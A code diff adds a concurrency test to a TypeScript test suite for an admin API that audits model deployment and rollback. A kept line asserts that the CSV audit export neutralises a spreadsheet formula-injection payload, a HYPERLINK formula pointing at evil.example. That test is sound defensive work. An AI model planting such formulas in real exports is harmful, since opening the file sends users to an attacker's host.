@@ -1,5 +1,7 @@
 import { env } from 'cloudflare:workers'
+import { runInDurableObject } from 'cloudflare:test'
 import { describe, expect, it, inject } from 'vitest'
+import { coordinatorOf } from '../../src/services/registry'
 import { ADMIN, APPROVER, admin, adminOk, call, infer, problemOf, setupModel, uniqueModel } from './helpers/harness'
 
 describe('admin auth', () => {
@@ -281,6 +283,24 @@ describe('rollback and audit', () => {
     const csv = await (await admin('GET', `/audit?model=${model}&format=csv`)).text()
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""click"")"`)
     expect(csv).not.toMatch(/,"?=HYPERLINK/)
+  })
+})
+
+describe('audit appends under concurrency', () => {
+  it('keeps every entry and one unbroken chain when audit entries and outbox records are appended at once', async () => {
+    const model = uniqueModel('race')
+    await adminOk('PUT', `/models/${model}`, { risk: 'low' }, 201)
+    await runInDurableObject(coordinatorOf(env, model), async (instance) => {
+      const i = instance as unknown as { audit(f: object): Promise<void>; outbox(r: unknown[]): Promise<void>; flushOutbox(): Promise<void> }
+      await Promise.all(Array.from({ length: 12 }, (_, k) =>
+        k % 2 === 0 ? i.audit({ action: 'test.note', target: model, before: null, after: { k }, reason: `note ${k}`, actor: 'test' }) : i.outbox([])
+      ))
+      await i.flushOutbox()
+    })
+    const entries = (await adminOk('GET', `/audit?model=${model}&limit=100`)).entries
+    expect(entries.filter((e: any) => e.action === 'test.note')).toHaveLength(6)
+    expect(entries.map((e: any) => e.seq)).toEqual(entries.map((_: unknown, k: number) => k + 1))
+    expect((await adminOk('GET', `/audit/verify?model=${model}`)).ok).toBe(true)
   })
 })
 
